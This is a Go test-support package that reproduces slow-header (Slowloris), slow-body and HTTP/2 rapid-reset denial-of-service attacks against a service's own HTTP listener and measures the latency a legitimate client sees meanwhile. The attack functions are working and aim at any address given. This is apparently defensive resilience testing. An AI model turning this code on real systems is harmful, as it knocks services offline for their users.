// Package edgeload plays the attacks on slotd's HTTP listener that come
// before (or without) authentication, and measures what a legitimate client
// sees meanwhile: connections that send their headers slowly, a request
// whose body comes slowly, and HTTP/2 rapid reset (HEADERS then RST_STREAM,
// over and over). The attack tests use it, and so does cmd/edgeload, which
// measures a running slotd.
package edgeload

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Target is the listener attacked.
type Target struct {
	// Addr is host:port.
	Addr string
	// TLS is the client configuration for an HTTPS listener; nil for
	// plaintext.
	TLS *tls.Config
	// From is the local IP to dial from ("" for any), so that a test can
	// tell the attack's source address from a legitimate client's.
	From string
}

func (t Target) dial(ctx context.Context, protos ...string) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	if t.From != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(t.From)}
	}
	c, err := d.DialContext(ctx, "tcp", t.Addr)
	if err != nil || t.TLS == nil {
		return c, err
	}
	cfg := t.TLS.Clone()
	cfg.NextProtos = protos
	if cfg.ServerName == "" {
		cfg.ServerName, _, _ = net.SplitHostPort(t.Addr)
	}
	tc := tls.Client(c, cfg)
	if err := tc.HandshakeContext(ctx); err != nil {
		c.Close()
		return nil, err
	}
	return tc, nil
}

// SlowStats counts what a slow-header attack got.
type SlowStats struct {
	// Opened is the connections made; Cut the ones the server closed.
	Opened, Cut int64
	// Held is the most connections open at once.
	Held int64
}

// SlowHeaders holds n connections that send a request's headers one line
// every every, never ending them and sending no key. A connection the
// server closes is opened again after pause. It runs until ctx ends.
func SlowHeaders(ctx context.Context, t Target, n int, every, pause time.Duration) SlowStats {
	var st SlowStats
	var open atomic.Int64
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				c, err := t.dial(ctx, "http/1.1")
				if err != nil {
					sleep(ctx, pause)
					continue
				}
				atomic.AddInt64(&st.Opened, 1)
				held := open.Add(1)
				for {
					m := atomic.LoadInt64(&st.Held)
					if held <= m || atomic.CompareAndSwapInt64(&st.Held, m, held) {
						break
					}
				}
				if trickle(ctx, c, i, every) {
					atomic.AddInt64(&st.Cut, 1)
				}
				open.Add(-1)
				c.Close()
				sleep(ctx, pause)
			}
		}()
	}
	wg.Wait()
	return st
}

// trickle writes a request line and then a header line every every until
// ctx ends (false) or the server closes the connection (true).
func trickle(ctx context.Context, c net.Conn, i int, every time.Duration) bool {
	closed := make(chan struct{})
	go func() {
		// The server answers (408, 431) or closes; either ends the attack
		// on this connection.
		_, _ = c.Read(make([]byte, 1))
		close(closed)
	}()
	if _, err := fmt.Fprintf(c, "POST /v1/turn HTTP/1.1\r\nHost: slotd\r\n"); err != nil {
		return true
	}
	tick := time.NewTicker(every)
	defer tick.Stop()
	for line := 0; ; line++ {
		select {
		case <-ctx.Done():
			return false
		case <-closed:
			return true
		case <-tick.C:
			if _, err := fmt.Fprintf(c, "X-Slow-%d: %d\r\n", i, line); err != nil {
				return true
			}
		}
	}
}

// SlowBodyResult is what a client sending a body slowly without a key saw.
type SlowBodyResult struct {
	// Status is the answer's status code.
	Status int
	// Answered is the time from the end of the headers to the answer's
	// status line.
	Answered time.Duration
	// Closed is the time from the end of the headers to the server's
	// closing the connection; 0 when it had not closed it by the end.
	Closed time.Duration
}

// SlowBody sends POST path without a key, its headers at once and its
// body (declared as 64 KiB) a byte every every, and reads the answer. It
// gives up waiting after wait.
func SlowBody(ctx context.Context, t Target, path string, every, wait time.Duration) (SlowBodyResult, error) {
	var res SlowBodyResult
	c, err := t.dial(ctx, "http/1.1")
	if err != nil {
		return res, err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(wait))
	if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: slotd\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", path, 64<<10); err != nil {
		return res, err
	}
	start := time.Now()
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		tick := time.NewTicker(every)
		defer tick.Stop()
		for {
			select {
			case <-stop:
				return
			case <-tick.C:
				if _, err := c.Write([]byte(" ")); err != nil {
					return
				}
			}
		}
	}()
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return res, fmt.Errorf("reading the answer: %w", err)
	}
	res.Status, res.Answered = resp.StatusCode, time.Since(start)
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	// The connection is closed when a read ends in EOF (or a reset) before
	// the deadline.
	if _, err := br.ReadByte(); err != nil && !errors.Is(err, context.DeadlineExceeded) && !isTimeout(err) {
		res.Closed = time.Since(start)
	}
	return res, nil
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

// RapidReset opens conns HTTP/2 connections over TLS (t.TLS must be set)
// and on each starts a stream of POST path with the key ("" for none) and
// resets it at once, over and over, until ctx ends; a connection the server
// closes is opened again. It returns the streams started.
func RapidReset(ctx context.Context, t Target, conns int, path, key string) int64 {
	var streams atomic.Int64
	var wg sync.WaitGroup
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				c, err := t.dial(ctx, "h2")
				if err != nil {
					sleep(ctx, 100*time.Millisecond)
					continue
				}
				// A server that stops reading blocks the writes: the end of
				// ctx unblocks them.
				stop := context.AfterFunc(ctx, func() { c.Close() })
				resetLoop(ctx, c, path, key, &streams)
				stop()
				c.Close()
			}
		}()
	}
	wg.Wait()
	return streams.Load()
}

// resetLoop speaks HTTP/2 on c: HEADERS without END_STREAM, then
// RST_STREAM(CANCEL), on ever new streams, until either side stops.
func resetLoop(ctx context.Context, c net.Conn, path, key string, streams *atomic.Int64) {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return
	}
	bw := bufio.NewWriterSize(c, 64<<10)
	fr := http2.NewFramer(bw, c)
	if fr.WriteSettings() != nil || bw.Flush() != nil {
		return
	}
	// The reader drops what the server sends, so that its writes never
	// block, and asks the writer to acknowledge its settings, as the
	// server closes a connection whose settings go unacknowledged.
	done, ack := make(chan struct{}), make(chan struct{}, 1)
	go func() {
		defer close(done)
		rf := http2.NewFramer(io.Discard, c)
		for {
			f, err := rf.ReadFrame()
			if err != nil {
				return
			}
			if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
				select {
				case ack <- struct{}{}:
				default:
				}
			}
		}
	}()
	var hb strings.Builder
	enc := hpack.NewEncoder(&hb)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "slotd"}, {Name: ":path", Value: path}, {Name: "content-type", Value: "application/json"}} {
		_ = enc.WriteField(f)
	}
	if key != "" {
		_ = enc.WriteField(hpack.HeaderField{Name: "authorization", Value: "Bearer " + key, Sensitive: true})
	}
	block := []byte(hb.String())
	for id := uint32(1); ctx.Err() == nil && id < 1<<31-2; id += 2 {
		select {
		case <-done:
			return
		case <-ack:
			if fr.WriteSettingsAck() != nil {
				return
			}
		default:
		}
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
		streams.Add(1)
		if id%64 == 1 && bw.Flush() != nil {
			return
		}
	}
	_ = bw.Flush()
}

// Latencies are the times of a prober's calls, with the failures.
type Latencies struct {
	Times  []time.Duration
	Failed int
	// FirstError is the first failure's error, for the report.
	FirstError error
}

// Quantile is the q-quantile of the times (0 without any).
func (l Latencies) Quantile(q float64) time.Duration {
	if len(l.Times) == 0 {
		return 0
	}
	s := append([]time.Duration(nil), l.Times...)
	sort.Slice(s, func(i, j int) bool { return s[i] < s[j] })
	return s[min(len(s)-1, int(q*float64(len(s))))]
}

// Probe is a legitimate client: every every, it POSTs body to path with
// the key, each on a new connection (as a client behind a balancer comes),
// until ctx ends, and times each call up to a 200 answer.
func Probe(ctx context.Context, t Target, path, key string, body func(i int) string, every time.Duration) Latencies {
	tr := &http.Transport{
		DialContext:       func(ctx context.Context, _, _ string) (net.Conn, error) { return t.dial(ctx) },
		DisableKeepAlives: true,
	}
	if t.TLS != nil {
		tr.DialContext = nil
		tr.DialTLSContext = func(ctx context.Context, _, _ string) (net.Conn, error) { return t.dial(ctx, "http/1.1") }
	}
	hc := &http.Client{Transport: tr, Timeout: 30 * time.Second}
	scheme := "http"
	if t.TLS != nil {
		scheme = "https"
	}
	var l Latencies
	tick := time.NewTicker(every)
	defer tick.Stop()
	for i := 0; ; i++ {
		select {
		case <-ctx.Done():
			return l
		case <-tick.C:
		}
		req, _ := http.NewRequest(http.MethodPost, scheme+"://"+t.Addr+path, strings.NewReader(body(i)))
		req.Header.Set("Authorization", "Bearer "+key)
		req.Header.Set("Content-Type", "application/json")
		start := time.Now()
		resp, err := hc.Do(req)
		if err == nil {
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				err = fmt.Errorf("status %d", resp.StatusCode)
			}
		}
		if err != nil {
			if l.Failed++; l.FirstError == nil {
				l.FirstError = err
			}
			continue
		}
		l.Times = append(l.Times, time.Since(start))
	}
}

func sleep(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// RSS is the resident set size of process pid, from /proc/PID/status.
func RSS(pid int) (int64, error) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0, err
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			return kb << 10, err
		}
	}
	return 0, errors.New("no VmRSS in /proc/PID/status")
}

// PeakRSS samples process pid's RSS every every until ctx ends and returns
// the largest.
func PeakRSS(ctx context.Context, pid int, every time.Duration) int64 {
	var peak int64
	for ctx.Err() == nil {
		if rss, err := RSS(pid); err == nil {
			peak = max(peak, rss)
		}
		sleep(ctx, every)
	}
	return peak
}
